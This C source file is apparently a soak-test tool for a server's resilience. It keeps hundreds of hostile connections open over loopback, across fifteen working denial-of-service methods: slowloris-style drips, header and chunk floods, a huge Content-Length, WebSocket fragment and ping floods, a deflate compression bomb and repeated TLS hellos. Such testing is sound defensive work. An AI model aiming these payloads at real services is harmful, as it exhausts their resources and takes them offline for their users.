/* soak_attack.c - hundreds of hostile connections of one kind, begun again whenever the server ends them.
 *
 *     soak_attack --kind NAME --connections N --seconds S --rate R HOST:PORT
 *
 * All together send no more than R bytes a second, which is a gigabit unless it is told.
 *
 * Prints how many connections were begun, how many of them the server ended, and the bytes that were sent to it.
 */
#include <errno.h>
#include <inttypes.h>
#include <openssl/ssl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

#include "common/loopback.h"
#include "common/meter.h"
#include "common/options.h"

enum {
    TICK_MS = 10,
    BEGUN_A_TICK = 20,
    FLOOD_ROOM = 64 << 10, /* of repeated units */
    SENDS_A_TICK = 4
};

#define ASK "GET /plaintext HTTP/1.1\r\nHost: x\r\n"
#define UPGRADE                                                                                              \
    "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"                             \
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"

typedef struct attack {
    const char *name, *prologue, *unit;
    size_t unit_length; /* 0: a text */
    size_t bytes;       /* a tick; 0: floods */
    bool reads;
    bool hangs_up; /* each tick, and begins again */
} attack;

static const attack attacks[] = {
    {"slow_head", "GET / HTTP/1.1\r\nHost: x\r\nX: ", "a", .bytes = 1},
    {"slow_body", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n", "a", .bytes = 1},
    {"silent", "", "", .bytes = 1},
    {"zero_window", "", ASK "\r\n", .reads = false},
    {"tiny_segments", "", ASK "\r\n", .bytes = 1, .reads = true},
    {"header_flood", "GET / HTTP/1.1\r\nHost: x\r\n", "A: b\r\n", .reads = false},
    {"huge_length", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9000000000000000000\r\n\r\n", "aaaaaaaa",
     .reads = false},
    {"chunk_flood", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", "1;a=b\r\nx\r\n",
     .reads = false},
    {"pipelining", "", ASK "\r\n", .reads = true},
    {"connections", "", "", .bytes = 1, .hangs_up = true},
    {"fragments", UPGRADE "\r\n", "\0\x80kkkk", .unit_length = 6, .reads = true},
    {"fragment_drip", UPGRADE "\r\n\x02\x80kkkk", "\0\x81kkkkz", .unit_length = 7, .bytes = 7},
    {"pings", UPGRADE "\r\n", "\x89\x80kkkk", .unit_length = 6},
    {"bombs", UPGRADE "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n", NULL, .reads = true},
    {"hellos", NULL, "", .bytes = 1, .reads = true, .hangs_up = true},
};

typedef struct victim {
    int fd; /* -1: none */
    size_t sent, tick;
} victim;

static struct {
    const attack *attack;
    const char *where;
    uint8_t *prologue, *flood;
    size_t prologue_length, flood_length;
    uint64_t begun, ended, bytes;
    uint64_t rate, allowed; /* bytes a second of all together; bytes until the next tick */
} self;

/* Ten MiB of zeros in a frame with a mask of zeros. */
static void make_bomb(void) {
    size_t size = 10 << 20;
    uint8_t *zeros = calloc(1, size), *frame = malloc(FLOOD_ROOM);
    z_stream z = {0};
    if (zeros == NULL || frame == NULL || deflateInit2(&z, 9, Z_DEFLATED, -15, 9, 0) != Z_OK) die("deflate");
    z.next_in = zeros;
    z.avail_in = (uInt)size;
    z.next_out = frame + 8;
    z.avail_out = FLOOD_ROOM - 8;
    if (deflate(&z, Z_SYNC_FLUSH) != Z_OK || z.avail_in != 0) die("deflate");
    size_t n = z.total_out - 4; /* without 00 00 ff ff */
    deflateEnd(&z);
    free(zeros);
    memcpy(frame, "\xc2\xfe\0\0\0\0\0\0", 8);
    frame[2] = (uint8_t)(n >> 8);
    frame[3] = (uint8_t)n;
    self.flood = frame;
    self.flood_length = n + 8;
}

/* The first bytes a TLS client sends. */
static void make_hello(void) {
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *ssl = context != NULL ? SSL_new(context) : NULL;
    BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());
    if (ssl == NULL || in == NULL || out == NULL) die("SSL_new");
    SSL_set_bio(ssl, in, out);
    SSL_connect(ssl);
    self.prologue_length = BIO_ctrl_pending(out);
    self.prologue = malloc(self.prologue_length);
    if (self.prologue == NULL || BIO_read(out, self.prologue, (int)self.prologue_length) <= 0)
        die("BIO_read");
    SSL_free(ssl);
    SSL_CTX_free(context);
}

static void make_bytes(const attack *kind) {
    self.attack = kind;
    if (kind->prologue == NULL) {
        make_hello();
    } else {
        self.prologue = (uint8_t *)strdup(kind->prologue);
        self.prologue_length = strlen(kind->prologue);
    }
    if (strcmp(kind->name, "fragment_drip") == 0)
        self.prologue_length = sizeof UPGRADE "\r\n\x02\x80kkkk" - 1;
    if (kind->unit == NULL) {
        make_bomb();
        return;
    }
    size_t n = kind->unit_length != 0 ? kind->unit_length : strlen(kind->unit);
    self.flood = malloc(FLOOD_ROOM);
    if (self.flood == NULL) die("malloc");
    while (n > 0 && self.flood_length + n <= FLOOD_ROOM) {
        memcpy(self.flood + self.flood_length, kind->unit, n);
        self.flood_length += n;
    }
}

static void begin(victim *of) {
    of->fd = loopback_connect_from(self.where, self.begun++);
    of->sent = 0;
    of->tick = 0;
    if (self.attack->reads) return;
    int small = 4096;
    setsockopt(of->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
}

/* Answers false when the server has ended it. Without reading, that shows when something is sent. */
static bool send_some(victim *of) {
    for (int i = 0; i < SENDS_A_TICK; i++) {
        const uint8_t *from = self.prologue + of->sent;
        size_t n = self.prologue_length - of->sent;
        if (of->sent >= self.prologue_length) {
            if (self.flood_length == 0) return true;
            size_t at = (of->sent - self.prologue_length) % self.flood_length;
            from = self.flood + at;
            n = self.flood_length - at;
            if (self.attack->bytes != 0 && n > self.attack->bytes) n = self.attack->bytes;
        }
        if (n > self.allowed) n = (size_t)self.allowed;
        if (n == 0) return true;
        ssize_t sent = send(of->fd, from, n, MSG_NOSIGNAL);
        if (sent < 0) return errno == EAGAIN || errno == EINTR || errno == ENOTCONN;
        of->sent += (size_t)sent;
        self.bytes += (size_t)sent;
        self.allowed -= (size_t)sent;
        if (self.attack->bytes != 0) return true;
    }
    return true;
}

static bool is_ended(const victim *of) {
    static uint8_t bytes[64 << 10];
    if (self.attack->reads) {
        for (;;) {
            size_t got = loopback_receive(of->fd, bytes, sizeof bytes);
            if (got == SIZE_MAX) return of->sent > 0;
            if (got < sizeof bytes) return false;
        }
    }
    ssize_t seen = recv(of->fd, bytes, 1, MSG_PEEK);
    return of->sent > 0 && (seen == 0 || (seen < 0 && errno != EAGAIN && errno != EINTR));
}

static void go_on(victim *of) {
    bool over = !send_some(of) || is_ended(of);
    if (over) self.ended++;
    if (!over && !(self.attack->hangs_up && ++of->tick >= 3)) return;
    close(of->fd);
    of->fd = -1;
}

static void run(victim *victims, uint64_t count, uint64_t seconds) {
    uint64_t next = meter_now(), over = next + seconds * 1000000000u, first = 0;
    while (next < over) {
        unsigned begun = 0;
        self.allowed = self.rate * TICK_MS / 1000;
        for (uint64_t n = 0; n < count; n++) {
            victim *of = &victims[first++ % count];
            if (of->fd >= 0) go_on(of);
            if (of->fd < 0 && begun++ < BEGUN_A_TICK) begin(of);
        }
        first += count / 7 + 1; /* the first has the most of what is allowed: another one each time */
        next += TICK_MS * 1000000u;
        uint64_t now = meter_now();
        if (next < now) next = now;
        struct timespec rest = {.tv_nsec = (long)(next - now)};
        nanosleep(&rest, NULL);
    }
}

int main(int argc, char **argv) {
    uint64_t connections = 200, seconds = 5;
    const char *kind = "";
    self.rate = 125000000;
    self.where = options_read(argc, argv,
                              (option[]){{"--kind", .text = &kind},
                                         {"--connections", .number = &connections},
                                         {"--seconds", .number = &seconds},
                                         {"--rate", .number = &self.rate},
                                         {0}});
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
        if (strcmp(attacks[i].name, kind) == 0) make_bytes(&attacks[i]);
    }
    if (self.attack == NULL) die("no such attack");
    loopback_raise_limit();
    victim *victims = calloc(connections, sizeof *victims);
    if (victims == NULL) die("calloc");
    for (uint64_t i = 0; i < connections; i++) victims[i].fd = -1;
    run(victims, connections, seconds);
    printf("begun=%" PRIu64 " ended=%" PRIu64 " bytes=%" PRIu64 "\n", self.begun, self.ended, self.bytes);
    return 0;
}
